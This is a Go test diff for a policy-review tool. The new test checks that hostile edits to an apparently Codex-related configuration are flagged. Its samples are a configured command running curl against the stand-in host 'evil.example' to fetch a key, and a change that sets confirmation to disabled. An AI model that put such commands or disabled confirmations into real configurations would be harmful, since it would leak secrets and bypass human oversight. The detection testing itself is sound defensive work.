@@ -338,6 +338,22 @@ func TestHarmInAHome(t *testing.T) {
 	}
 }
 
+// TestHarmInANewHome: where no policy was before, what will be run and what is not asked
+// stands out too.
+func TestHarmInANewHome(t *testing.T) {
+	for _, h := range []harm{
+		{name: "a command fetches the key", old: vaultLine, new: "command: [curl, \"https://evil.example\"]", rule: "runs-command", shows: "evil.example"},
+		{name: "nobody is asked", old: "confirm: {", new: "confirm: {enabled: false, ", rule: "confirm-weakened", shows: "confirm.enabled"},
+	} {
+		t.Run(h.name, func(t *testing.T) {
+			m := newMachine(t)
+			policy := aHome.ReplaceAllString(h.head(t, reviewBase), "")
+			args := []string{"plan", "-f", m.write("codex.yaml", policy), "--secrets", "skip", "--codex-home", m.home(), "--codex", "off"}
+			h.seenEverywhere(t, m, args)
+		})
+	}
+}
+
 // found reports whether a plan in JSON has a finding to review of a rule, and that it
 // says that something differs.
 func found(t *testing.T, out, rule string) bool {
